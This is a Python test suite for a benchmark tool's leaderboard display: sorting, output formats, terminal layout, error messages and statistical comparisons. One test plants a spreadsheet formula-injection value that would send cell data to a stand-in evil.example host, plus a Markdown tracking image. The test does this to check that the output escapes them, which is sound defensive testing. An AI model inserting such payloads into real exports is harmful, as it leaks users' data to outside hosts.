"""`bench leaderboard --show`: sorted, at a custom budget, and as CSV, JSON or Markdown."""

import io
import json
import re
from pathlib import Path

import pandas as pd
from conftest import FAST
from test_leaderboard import BUDGET, record, terminal_records, write_records

from bench import files, records


def show(bench, results, *extra):
    return bench(["leaderboard", "--results-dir", results, "--show", *extra])


def test_show_sorts_best_first_with_the_references_on_top(tmp_path, bench, monkeypatch):
    monkeypatch.setenv("COLUMNS", "60")  # too narrow for every column: the sorted one stays
    write_records(tmp_path, terminal_records())
    ran = show(bench, tmp_path, "--sort", "accuracy_mean_%")
    assert ran.returncode == 0, ran.stderr
    rows = [line.split()[:2] for line in ran.stdout.splitlines() if line.startswith(("dense", "gmp", "uniform"))]
    assert rows == [["dense", "-"], ["dense-ft", "-"], ["gmp", "sparsity=0.5"], ["uniform", "-"],  # bits=4: its default
                    ["gmp", "sparsity=0.9"]]
    nonzeros = show(bench, tmp_path, "--sort", "nonzeros")  # fewer is better: lowest first
    assert [line.split()[0] for line in nonzeros.stdout.splitlines() if line.startswith(("gmp", "uniform"))] == [
        "gmp", "gmp", "uniform"]
    assert "nonzeros" in nonzeros.stdout
    bad = show(bench, tmp_path, "--sort", "nope")
    assert bad.returncode == 2 and "--sort 'nope': expected a column of the table: accuracy_mean_%" in bad.stderr
    assert bench(["leaderboard", "--results-dir", tmp_path, "--sort", "nonzeros"]).returncode == 2  # no --show


def test_show_reads_custom_budgets_and_writes_csv_json_and_markdown(tmp_path, bench):
    quick = {**BUDGET, "epochs": 1}
    write_records(tmp_path, terminal_records() + [record("dense", {}, 0, 0.9, 1000, standard=False, budget=quick)])
    custom = show(bench, tmp_path, "--budget", "custom")
    assert custom.returncode == 0, custom.stderr
    assert "1+10 epochs" in custom.stdout and "gmp" not in custom.stdout
    as_json = json.loads(show(bench, tmp_path, "--format", "json", "--family", "quantization").stdout)
    assert [(r["suite"], r["method"]) for r in as_json] == [("mlp", "dense"), ("mlp", "dense-ft"), ("mlp", "uniform")]
    assert as_json[2]["accuracy_mean_%"] == 97.9 and as_json[2]["seeds"] == 2
    as_csv = pd.read_csv(io.StringIO(show(bench, tmp_path, "--format", "csv").stdout))
    assert len(as_csv) == 5 and {"suite", "setting", "accuracy_std_%", "nonzeros"} <= set(as_csv.columns)
    markdown = show(bench, tmp_path, "--format", "markdown", "--sparsity", "0.9").stdout
    assert markdown.startswith("| suite ") and markdown.count("| mlp ") == 3  # dense, dense-ft, gmp at 0.9


def test_show_as_csv_or_markdown_makes_no_formula_link_or_broken_row(tmp_path, bench):
    """`--show --format csv|markdown` follows the rules of leaderboard.csv and leaderboard.md
    (they were printed as written): a record's text that starts as a formula arrives with a
    leading `'`, and one that is a Markdown image, or holds a `|`, is escaped."""
    recs = terminal_records()
    recs[0]["env"] = {**recs[0]["env"], "device_name": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
    recs[2]["env"] = {**recs[2]["env"], "device_name": "![x](https://evil.example/t.png) | x"}  # dense-ft
    write_records(tmp_path, recs)
    shown = show(bench, tmp_path, "--format", "csv")
    assert shown.returncode == 0, shown.stderr
    cells = pd.read_csv(io.StringIO(shown.stdout))["machines"]
    assert any(c.startswith("'=HYPERLINK(") for c in cells) and not any(c.startswith("=") for c in cells)
    markdown = show(bench, tmp_path, "--format", "markdown").stdout
    assert "!\\[x\\](https://evil.example/t.png) \\| x" in markdown and "![x]" not in markdown
    assert len({line.replace("\\|", "").count("|") for line in markdown.splitlines()}) == 1  # no row has a cell more


def test_show_methods_keeps_the_named_and_matched_methods_beside_the_references(tmp_path, bench, monkeypatch):
    """--methods takes names and glob patterns as `bench run` does; a name no record has is
    refused with the nearest one, before any table is printed."""
    monkeypatch.setenv("COLUMNS", "200")
    write_records(tmp_path, terminal_records())
    shown = show(bench, tmp_path, "--methods", "gm*")
    assert shown.returncode == 0, shown.stderr
    assert [line.split()[0] for line in shown.stdout.splitlines() if line.startswith(("dense", "gmp", "uniform"))] == [
        "dense", "dense-ft", "gmp", "gmp"]
    as_json = json.loads(show(bench, tmp_path, "--methods", "uniform", "--format", "json").stdout)
    assert [r["method"] for r in as_json] == ["dense", "dense-ft", "uniform"]
    typo = show(bench, tmp_path, "--methods", "gmp,unifrom")
    assert typo.returncode == 2 and typo.stdout == ""
    assert "--methods: no record's method matches 'unifrom'; did you mean uniform?" in typo.stderr
    assert bench(["leaderboard", "--results-dir", tmp_path, "--methods", "gmp"]).returncode == 2  # no --show


def test_list_json_gives_tools_the_methods_and_suites_as_objects(capsys):
    from bench.cli import main

    assert main(["list", "methods", "--json"]) == 0
    methods = {m["method"]: m for m in json.loads(capsys.readouterr().out)}
    assert methods["magnitude"] == {"method": "magnitude", "family": "pruning", "origin": "built in",
                                    "description": methods["magnitude"]["description"], "sweep": "sparsity",
                                    "parameters": {"sparsity": 0.9, "scope": "global"}, "required": [], "problem": None}
    assert methods["magnitude"]["description"].startswith("One-shot magnitude pruning")
    assert main(["list", "suites", "--json"]) == 0
    suites = {s["suite"]: s for s in json.loads(capsys.readouterr().out)}
    assert suites["mlp"]["model"] == "lenet300" and suites["mlp"]["seeds"] == [0, 1, 2]
    assert set(suites) >= {"mlp", "mnist", "cifar"}


def test_a_cut_setting_keeps_the_swept_parameter_and_leaves_out_defaults(tmp_path, bench, monkeypatch):
    """Rows of a one-shot method differ in many parameters: the terminal shows the swept one first
    and, of the others, those a row sets away from its default, as the .md does."""
    monkeypatch.setenv("COLUMNS", "140")
    recs = [record("wanda", {"calibration_samples": c, "finetune": False, "m": 0, "n": 0, "sparsity": s}, seed, 0.9, 100)
            for c in (1024, 128) for s in (0.5, 0.9) for seed in (0, 1)]
    write_records(tmp_path, recs)
    shown = [m.group(1) for line in show(bench, tmp_path).stdout.splitlines()
             if (m := re.match(r"wanda +(.+?) {2,}2 ", line))]  # the setting, before the seeds column
    assert shown == ["sparsity=0.5", "sparsity=0.9", "sparsity=0.5, calibration_samples=128",
                     "sparsity=0.9, calibration_samples=128"]


def test_a_narrow_terminal_sorted_by_size_keeps_accuracy_beside_it(tmp_path, bench, monkeypatch):
    """At 80 columns a row ranked by compression still shows what it cost: the settings are cut
    shorter before accuracy is dropped."""
    monkeypatch.setenv("COLUMNS", "80")
    long = {"finetune": True, "m": 4, "n": 2, "scope": "layer", "sparsity": 0.5}  # a long setting, a long name
    write_records(tmp_path, terminal_records() + [record("magnitude-oneshot", long, seed, 0.97, 500) for seed in (0, 1)])
    out = show(bench, tmp_path, "--sort", "compression_x").stdout
    lines = out.splitlines()
    header = next(line for line in lines if line.startswith("method"))
    units = lines[lines.index(header) + 1]  # the headers fold over two lines before a column goes
    assert header.split()[2:4] == ["compression", "accuracy"] and units.split()[:2] == ["(x)", "(%)"], out
    table = lines[lines.index(header):]
    assert max(map(len, table)) <= 80


def test_a_narrow_terminal_folds_its_headers_and_says_the_seeds_before_dropping_size(tmp_path, bench, monkeypatch):
    """At 80 columns mlp's committed table showed accuracy alone, without the size that says what
    it cost. Before a core column goes, the headers fold over two lines and a seeds column that
    reads alike on every row moves into the table's heading ("3 seeds each"); a wide terminal
    keeps one-line headers and the column."""
    committed = Path(__file__).parent.parent / "results"
    monkeypatch.setenv("COLUMNS", "80")
    out = show(bench, committed, "--suite", "mlp").stdout
    lines = out.splitlines()
    header = next(line for line in lines if line.startswith("method"))
    assert header.split() == ["method", "setting", "accuracy", "size"], out
    assert lines[lines.index(header) + 1].split() == ["(%)", "(KiB)"]
    assert " · CPU · 3 seeds each (compression, " in out
    assert max(map(len, lines[lines.index(header):])) <= 80
    monkeypatch.setenv("COLUMNS", "250")
    wide = show(bench, committed, "--suite", "mlp").stdout
    header = next(line for line in wide.splitlines() if line.startswith("method"))
    assert header.split()[:6] == ["method", "setting", "seeds", "accuracy", "(%)", "size"] and "seeds each" not in wide


def test_settings_too_long_for_a_narrow_terminal_wrap_and_stay_apart(tmp_path, bench, monkeypatch):
    """At 80 columns a setting column narrowed to fit cut the lottery's reinit controls like its
    real rows ("sparsity=0.5,…" beside "sparsity=0.5"): the text wraps instead, so every row's
    whole setting is there, and no line is wider than the terminal."""
    monkeypatch.setenv("COLUMNS", "80")
    recs = [record("lottery", {"sparsity": s, "reinit": reinit}, seed, 0.97, 500)
            for seed in (0, 1) for s in (0.5, 0.9) for reinit in (False, True)]
    write_records(tmp_path, terminal_records() + recs)
    out = show(bench, tmp_path, "--sort", "compression_x").stdout
    table = out.splitlines()[next(i for i, line in enumerate(out.splitlines()) if line.startswith("method")):]
    assert max(map(len, table)) <= 80 and "…" not in out
    column = table[0].index("setting")
    cells = [line[column:].split("  ")[0] for line in table]
    at = [i for i, line in enumerate(table) if line.startswith("lottery")]
    assert [cells[i] for i in at] == ["sparsity=0.5", "sparsity=0.9", "sparsity=0.5,", "sparsity=0.9,"]
    assert [table[i + 1][:column].strip() + cells[i + 1] for i in at[2:]] == ["reinit=True", "reinit=True"]


def test_a_setting_wraps_between_its_parameters_never_inside_one(tmp_path, bench, monkeypatch):
    """At 80 columns a two-parameter setting wrapped at 14 characters split a parameter's name
    ("bits=3, calibr" / "ation_samples="): it wraps between parameters, and a narrow terminal
    drops a column first."""
    monkeypatch.setenv("COLUMNS", "80")
    recs = [record("gptq", {"bits": bits, "calibration_samples": n}, seed, 0.97, 500)
            for seed in (0, 1) for bits in (3, 4) for n in (128, 1024)]
    write_records(tmp_path, terminal_records() + recs)
    out = show(bench, tmp_path).stdout
    table = out.splitlines()[next(i for i, line in enumerate(out.splitlines()) if line.startswith("method")):]
    assert max(map(len, table)) <= 80
    column = table[0].index("setting")
    assert all("calibration_samples=128" in line for line in table if "ation_samples" in line)
    (two,) = [i for i, line in enumerate(table) if line.startswith("gptq") and "bits=3," in line]  # (defaults unshown)
    assert " ".join(table[j][column:].split("  ")[0] for j in (two, two + 1)) == "bits=3, calibration_samples=128"


def test_what_is_not_there_is_named_with_what_is(tmp_path, bench, monkeypatch):
    """A misspelt suite, a results folder that is not there (bench run outside the checkout), a
    misspelt --sort column, a sparsity no row has and a suite whose files are no records: each
    says so, with what there is."""
    write_records(tmp_path, terminal_records())
    typo = show(bench, tmp_path, "--suite", "mpl")
    assert typo.returncode == 1 and typo.stdout == ""
    assert typo.stderr == (f"no run records for suite 'mpl' under {tmp_path / 'mpl' / 'runs'}; did you mean mlp? "
                           "(suites with records there: mlp)\n")
    nowhere = show(bench, tmp_path / "elsewhere", "--suite", "mlp")
    assert nowhere.returncode == 1 and f"no results folder {tmp_path / 'elsewhere'}: run bench where" in nowhere.stderr
    sort = show(bench, tmp_path, "--sort", "accuracy")
    assert sort.returncode == 2 and sort.stdout == ""  # no heading before the refusal
    assert "--sort 'accuracy': did you mean accuracy_mean_%? expected a column of the table: " in sort.stderr
    level = show(bench, tmp_path, "--sparsity", "0.91")
    assert level.returncode == 0 and "no row at sparsity 0.91; the levels: 0.5, 0.9\n" in level.stdout
    (tmp_path / "junk" / "runs").mkdir(parents=True)
    (tmp_path / "junk" / "runs" / "x.json").write_text("{")  # a suite none of whose files is a record
    junk = bench(["leaderboard", "--results-dir", tmp_path, "--suite", "junk"])
    assert junk.returncode == 1 and "did you mean" not in junk.stderr
    assert junk.stderr.endswith(f"no usable run records for suite 'junk' in {tmp_path / 'junk' / 'runs'}\n"), junk.stderr


def test_show_without_rows_at_its_budget_says_where_the_rows_are(tmp_path, bench, monkeypatch):
    """A quick run writes custom-budget records, to ./results-quick by default: `--show` at the
    standard budget, or at the custom budget of ./results, points there rather than showing
    nothing or only the committed rows."""
    monkeypatch.chdir(tmp_path)
    quick = {**BUDGET, "epochs": 1}
    write_records(tmp_path / "results-quick", [record("dense", {}, 0, 0.9, 1000, standard=False, budget=quick),
                                               record("dense", {}, 1, 0.9, 1000, standard=False, budget=quick)])
    standard = show(bench, tmp_path / "results-quick", "--suite", "mlp")
    assert standard.returncode == 0, standard.stderr
    assert ("no finished runs\n\nnote: 2 finished runs of mlp at overridden budgets in "
            f"{tmp_path / 'results-quick'}: add --budget custom\n") in standard.stdout
    assert "note:" not in show(bench, tmp_path / "results-quick", "--budget", "custom").stdout
    write_records(tmp_path / "results", terminal_records())
    committed = show(bench, "results", "--suite", "mlp", "--budget", "custom")
    assert committed.returncode == 0, committed.stderr
    assert committed.stdout.endswith(f"note: {len(terminal_records())} finished runs of mlp at the standard budget in results: add --budget "
                                     "standard\nnote: quick runs go to ./results-quick by default: add --results-dir "
                                     "results-quick\n\n")
    assert "note:" not in show(bench, "results", "--suite", "mlp").stdout


def test_show_names_the_file_with_every_column_only_where_it_is(tmp_path, bench, data_dir):
    """After a quick run, `--show` at the standard budget was headed "(results/SUITE/leaderboard.md
    has every column)", a file that no row at that budget had written; it names the file where
    the run wrote one."""
    ran = bench(["run", "--suite", FAST, "--methods", "dense", "--seeds", "0", "--epochs", "1", "--limit-train", "512",
                 "--limit-test", "200", "--data-dir", data_dir, "--results-dir", tmp_path])
    assert ran.returncode == 0, ran.stderr
    standard, custom = show(bench, tmp_path, "--suite", "mlp-fast"), show(bench, tmp_path, "--budget", "custom")
    assert standard.returncode == custom.returncode == 0, standard.stderr + custom.stderr
    assert not (tmp_path / "mlp-fast" / "leaderboard.md").exists()
    assert standard.stdout.startswith("# mlp-fast: standard budget\n\nno finished runs\n"), standard.stdout
    written = tmp_path / "mlp-fast" / "leaderboard-custom.md"
    assert written.is_file() and custom.stdout.startswith(f"# mlp-fast: custom budget ({written} has every column)\n")


def test_the_quick_results_folder_before_any_quick_run_says_what_writes_it(tmp_path, bench, data_dir, monkeypatch):
    """The first session's `--results-dir results-quick`, typed in the checkout before its run,
    was told to "run bench where the results folder is (the checkout), or pass --results-dir", and
    `bench compare results-quick` that it was no git commit: each names the run that writes it."""
    from bench import layout

    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("BENCH_RESULTS_DIR", raising=False)
    why = f"no results folder results-quick yet: a run at an overridden budget writes it ({layout.FIRST_QUICK_RUN})\n"
    early = show(bench, "results-quick", "--suite", "mlp-fast", "--budget", "custom")
    assert early.returncode == 1 and early.stderr == why
    compared = bench(["compare", "results-quick", "--methods", "dense,dense-ft"])
    assert compared.returncode == 2 and compared.stderr == f"bench: error: {why}"
    ran = bench(["run", "--suite", FAST, "--methods", "dense", "--seeds", "0", "--epochs", "1", "--limit-train", "512",
                 "--limit-test", "200", "--data-dir", data_dir])
    assert ran.returncode == 0, ran.stderr
    later = show(bench, "results-quick", "--suite", "mlp-fast", "--budget", "custom")
    assert later.returncode == 0 and "1+10 epochs, limit_train=512, limit_test=200" in later.stdout, later.stdout


def test_a_suite_file_of_ones_own_is_shown_by_its_path_and_its_quick_rows_are_pointed_to(tmp_path, bench, monkeypatch):
    """`bench run --suite mine.yaml` writes under the suite's `name`; `bench leaderboard` and
    `bench compare` refused the same --suite as no folder name, and a quick run's records, only in
    ./results-quick, were "no run records" without saying where they were."""
    monkeypatch.chdir(tmp_path)
    text = (Path(__file__).parents[1] / "suites" / "mlp.yaml").read_text()
    Path("mine.yaml").write_text(text.replace("name: mlp", "name: mine"))
    quick = {**BUDGET, "epochs": 1}
    recs = [record("dense", {}, seed, 0.9, 1000, standard=False, budget=quick) for seed in (0, 1)]
    for i, r in enumerate(recs):
        r["config"]["suite"] = "mine"
        r["config_hash"] = records.config_hash(r["config"])
        files.write_json_atomic(tmp_path / "results-quick" / "mine" / "runs" / f"dense-{i}.json", r)
    Path("results").mkdir()
    nowhere = show(bench, "results", "--suite", "mine.yaml")
    assert nowhere.returncode == 1 and nowhere.stderr == (
        f"no run records for suite 'mine' under {Path('results') / 'mine' / 'runs'}; quick runs go to ./results-quick "
        "by default: add --results-dir results-quick (and --budget custom)\n")
    shown = show(bench, "results-quick", "--suite", "mine.yaml", "--budget", "custom")
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout.startswith("# mine: custom budget") and "1+10 epochs" in shown.stdout
    compared = bench(["compare", "results-quick", "results-quick", "--suite", "mine.yaml"])
    assert "# mine:" in compared.stdout, compared.stderr
    missing = show(bench, "results-quick", "--suite", "nope.yaml")
    assert missing.returncode == 2 and "suite file nope.yaml does not exist" in missing.stderr


def test_a_quick_run_says_when_its_methods_trained_longer_than_dense_with_no_control(tmp_path, bench, data_dir):
    args = ["run", "--suite", FAST, "--seeds", "0", "--epochs", "1", "--finetune-epochs", "1", "--limit-train", "512",
            "--limit-test", "200", "--data-dir", data_dir, "--results-dir", tmp_path, "--set", "magnitude.sparsity=0.5"]
    ran = bench([*args, "--methods", "dense,magnitude"])
    assert ran.returncode == 0, ran.stderr
    assert "note: methods trained up to 2 epochs here and dense 1, so Δ acc (the .md's column) includes their extra " \
           "training" in ran.stdout
    # each way out named in full: "or set --finetune-epochs" left its value to guess
    assert "add dense-ft to --methods" in ran.stdout and "or run with --finetune-epochs 0" in ran.stdout
    matched = bench([*args, "--methods", "dense,dense-ft,magnitude"])
    assert matched.returncode == 0 and "note:" not in matched.stdout


def test_min_compression_keeps_the_rows_at_least_that_much_smaller_beside_the_references(tmp_path, bench, monkeypatch):
    """A reader with a size budget ("at least 10x smaller than dense") had to scan every row:
    --min-compression keeps the rows whose compression, as the table shows it, reaches it (gmp at
    50%: 1.95x, shown 2.0), in every format, and is refused without --show."""
    monkeypatch.setenv("COLUMNS", "200")
    write_records(tmp_path, terminal_records())  # compression: gmp 0.5 2.0, gmp 0.9 8.2, uniform 1.0
    shown = show(bench, tmp_path, "--min-compression", "2", "--sort", "accuracy_mean_%")
    assert shown.returncode == 0, shown.stderr
    assert [line.split()[:2] for line in shown.stdout.splitlines() if line.startswith(("dense", "gmp", "uniform"))] == [
        ["dense", "-"], ["dense-ft", "-"], ["gmp", "sparsity=0.5"], ["gmp", "sparsity=0.9"]]
    as_json = json.loads(show(bench, tmp_path, "--min-compression", "5", "--format", "json").stdout)
    assert [(r["method"], r["compression_x"]) for r in as_json] == [("dense", 1.0), ("dense-ft", 1.0), ("gmp", 8.2)]
    assert bench(["leaderboard", "--results-dir", tmp_path, "--min-compression", "5"]).returncode == 2  # no --show
    assert show(bench, tmp_path, "--min-compression", "0").returncode == 2


def test_a_min_compression_no_row_reaches_says_how_far_the_rows_go(tmp_path, bench, monkeypatch):
    """--min-compression 1000 printed the references alone and nothing more, as if the other rows
    had vanished; --sparsity at a level no row has already said which levels there are. It now
    says that no row reaches that size and the most compressed row's compression."""
    monkeypatch.setenv("COLUMNS", "200")
    write_records(tmp_path, terminal_records())  # compression: gmp 0.5 2.0, gmp 0.9 8.2, uniform 1.0
    far = show(bench, tmp_path, "--min-compression", "1000")
    assert far.returncode == 0, far.stderr
    assert "no row at least 1000x smaller than dense; the most compressed: gmp sparsity=0.9 at 8.2x\n" in far.stdout
    assert "no row at least" not in show(bench, tmp_path, "--min-compression", "8").stdout


def test_min_compression_lists_the_band_most_accurate_first_unless_sorted_otherwise(tmp_path, bench, monkeypatch):
    """`--min-compression 10` asks which method wins at that size, but listed the band in the
    leaderboard's method order: its `best` row sat among 46 others (mlp) unless --sort
    accuracy_mean_% was added too. Its rows now come most accurate first, the best on top, in
    every format; an explicit --sort still orders them."""
    from test_site import banded_records

    monkeypatch.setenv("COLUMNS", "200")
    write_records(tmp_path, banded_records())
    methods = ("magnitude", "gmp", "snip", "set", "rigl")

    def order(*extra: str) -> list[str]:
        shown = show(bench, tmp_path, "--min-compression", "8", *extra)
        assert shown.returncode == 0, shown.stderr
        return [line.split()[0] for line in shown.stdout.splitlines() if line.startswith(methods)]

    by_accuracy = order("--sort", "accuracy_mean_%")
    assert by_accuracy[0] == "magnitude" and order() == by_accuracy
    as_json = json.loads(show(bench, tmp_path, "--min-compression", "8", "--format", "json").stdout)
    assert [r["method"] for r in as_json if r["method"] != "dense"] == by_accuracy
    assert order("--sort", "size_KiB") != by_accuracy  # the reader's own order wins


def test_the_terminals_measured_speedup_is_the_tables_best_runtime_as_on_the_site(bench, monkeypatch):
    """The terminal led with eager's speedup at batch 1 whatever the table held, and eager runs an
    int8 model through fake quantization: the committed mnist int8 rows read 0.1-0.2x there. It
    now leads, as the site and plots do, with the runtime whose median speedup over the table's
    compressed rows is best (on the committed mnist results, not eager)."""
    monkeypatch.setenv("COLUMNS", "200")
    ran = bench(["leaderboard", "--suite", "mnist", "--results-dir", Path(__file__).parent.parent / "results",
                 "--show", "--family", "quantization"])
    assert ran.returncode == 0, ran.stderr
    header = next(line for line in ran.stdout.splitlines() if line.startswith("method "))
    assert header.rstrip().endswith(" b1 (x)") and not header.rstrip().endswith("eager b1 (x)"), header
    int8 = next(line for line in ran.stdout.splitlines() if line.startswith("ptq-int8 "))
    assert float(int8.split()[-2]) > 0.5, int8  # its speedup in that runtime, with its spread after it
    # what the parentheses hold: the terminal said nothing of it, where the .md and the site do
    assert "in parentheses the interquartile range of its timed pairs" in ran.stdout


def test_min_compression_judges_each_row_of_the_band_against_its_best(tmp_path, bench, monkeypatch):
    """--min-compression listed the rows at a size without saying whether those just below the
    best differ from it by more than noise: a `vs best` column (tied, below, unjudged: one seed)
    and a count under the table now say so, and the other formats carry it as columns."""
    from test_site import banded_records

    monkeypatch.setenv("COLUMNS", "200")
    write_records(tmp_path, banded_records())
    shown = show(bench, tmp_path, "--min-compression", "8", "--sort", "accuracy_mean_%")
    assert shown.returncode == 0, shown.stderr
    status = {line.split()[0]: line.split()[3] for line in shown.stdout.splitlines()
              if line.startswith(("magnitude", "gmp", "snip", "set", "rigl"))}
    assert status == {"magnitude": "best", "gmp": "tied", "snip": "below", "set": "unjudged", "rigl": "below"}
    assert "1 of 4 other rows at ≥ 8x tied with the best, 2 below it, 1 not judged (one seed); Welch's t " \
           "over the seeds against the best" in shown.stdout
    as_json = json.loads(show(bench, tmp_path, "--min-compression", "8", "--format", "json").stdout)
    assert {r["method"]: r["vs_best"] for r in as_json} == {"dense": "", **status}
    rows = {r["method"]: r for r in as_json}
    assert rows["set"]["vs_best_p"] is None and rows["set"]["vs_best_p_holm"] is None
    assert 0 < rows["snip"]["vs_best_p"] <= rows["snip"]["vs_best_p_holm"] < 0.05  # its own p, and Holm's over 3
    plain = show(bench, tmp_path)  # no size asked: no column
    assert "vs best" not in plain.stdout and "tied with the best" not in plain.stdout


def test_the_best_runtime_is_one_that_timed_the_compressed_rows():
    """A runtime that timed only the references (its exports of every compressed model failed)
    has no median over the compressed rows: NaN, which max() kept when it came first, so every
    view led with a column of blanks beside a runtime that timed them all."""
    from bench import board, metrics

    cols = metrics.columns({"accuracy", "speedup_b1", "speedup_onnxruntime_b1"})
    t = pd.DataFrame({"method": ["dense", "magnitude", "gmp"], "speedup_b1_x": [1.0, None, None],
                      "speedup_onnxruntime_b1_x": [1.0, 1.8, 1.6]})
    [(best, label)] = board.best_speedups(t, cols)
    assert (best.column, label) == ("speedup_onnxruntime_b1_x", "onnxruntime, batch 1")


def test_a_rows_p_in_the_files_stays_on_its_side_of_the_level(tmp_path, bench, monkeypatch):
    """vs_best_p_holm was rounded to 4 decimals: a row `below` the best at an adjusted p of
    0.049996 read 0.05 beside its verdict, a p that rejects nothing at 95%."""
    from bench import compare
    from test_site import banded_records

    monkeypatch.setattr(compare, "holm", lambda p: [0.049996] * len(p))
    write_records(tmp_path, banded_records())
    rows = json.loads(show(bench, tmp_path, "--min-compression", "8", "--format", "json").stdout)
    gmp = next(r for r in rows if r["method"] == "gmp")
    assert gmp["vs_best"] == "below" and gmp["vs_best_p_holm"] < 0.05, gmp
